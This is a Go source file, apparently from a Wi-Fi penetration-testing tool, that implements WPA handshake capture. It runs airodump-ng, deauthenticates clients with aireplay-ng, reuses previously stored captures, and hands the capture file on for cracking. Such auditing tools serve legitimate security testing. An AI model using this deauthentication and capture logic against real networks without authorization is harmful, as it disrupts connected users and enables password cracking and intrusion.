package attack

import (
	"context"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/ExclusiveAccount/wifi-auditor/pkg/airodump"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/models"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/results"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/tools"
)

// WPAAttack captures a four-way handshake by deauthenticating clients
type WPAAttack struct {
	kit    *Toolkit
	target models.Target
	logger *logrus.Entry

	// OnState, when set, follows the capture loop
	OnState func(LoopState)
}

// NewWPAAttack creates a handshake capture technique for target
func NewWPAAttack(kit *Toolkit, target models.Target) *WPAAttack {
	return &WPAAttack{kit: kit, target: target.Clone(), logger: kit.targetLogger(target, models.AttackWPAHandshake)}
}

// Kind implements Technique
func (a *WPAAttack) Kind() models.AttackKind {
	return models.AttackWPAHandshake
}

// Check implements Technique
func (a *WPAAttack) Check() error {
	needed := []string{"airodump-ng"}
	if !a.kit.Config.NoDeauth {
		needed = append(needed, "aireplay-ng")
	}
	return tools.Require(needed...)
}

// Run implements Technique
func (a *WPAAttack) Run(ctx context.Context) (*models.CrackResult, error) {
	cfg := a.kit.Config
	essid := ""
	if a.target.ESSIDKnown {
		essid = a.target.ESSID
	}

	if path, ok := a.existing(essid); ok {
		a.logger.WithField("file", path).Info("Using previously captured handshake")
		return a.result(path, essid), nil
	}

	session := airodump.NewSession(cfg, airodump.SessionOptions{
		Channel: a.target.Channel,
		BSSID:   a.target.BSSID,
		Prefix:  "wpa_" + tools.StripBSSID(a.target.BSSID),
		SkipWPS: true,
	}, airodump.SessionDeps{
		Vendors:  a.kit.Vendors,
		Analyzer: a.kit.Analyzer,
		Tracker:  a.kit.Tracker,
		Logger:   a.kit.Logger,
	})
	if err := session.Start(ctx); err != nil {
		return nil, err
	}
	defer session.Stop()

	var deauther airodump.Deauther
	if !cfg.NoDeauth {
		deauther = a.kit.Deauther
	}
	loop := NewHandshakeLoop(cfg, a.target, session, deauther, a.kit.Analyzer.HasHandshake, a.kit.Logger)
	loop.OnState = a.OnState

	path, err := loop.Run(ctx)
	if err != nil || path == "" {
		return nil, err
	}
	if t := loop.Target(); t.ESSIDKnown {
		essid = t.ESSID
	}
	return a.result(path, essid), nil
}

// existing finds a handshake preserved by an earlier run that still verifies
func (a *WPAAttack) existing(essid string) (string, bool) {
	if a.kit.Config.IgnoreOldHandshakes {
		return "", false
	}
	path, ok := results.FindHandshake(a.kit.Config.HandshakeDir, essid, a.target.BSSID)
	if !ok {
		return "", false
	}
	valid, err := a.kit.Analyzer.HasHandshake(path, a.target.BSSID, essid)
	if err != nil || !valid {
		a.logger.WithField("file", path).Debug("Stored handshake is not usable")
		return "", false
	}
	return path, true
}

func (a *WPAAttack) result(path, essid string) *models.CrackResult {
	return &models.CrackResult{
		Type:  models.ResultWPA,
		BSSID: a.target.BSSID,
		ESSID: essid,
		File:  path,
		Date:  time.Now(),
	}
}
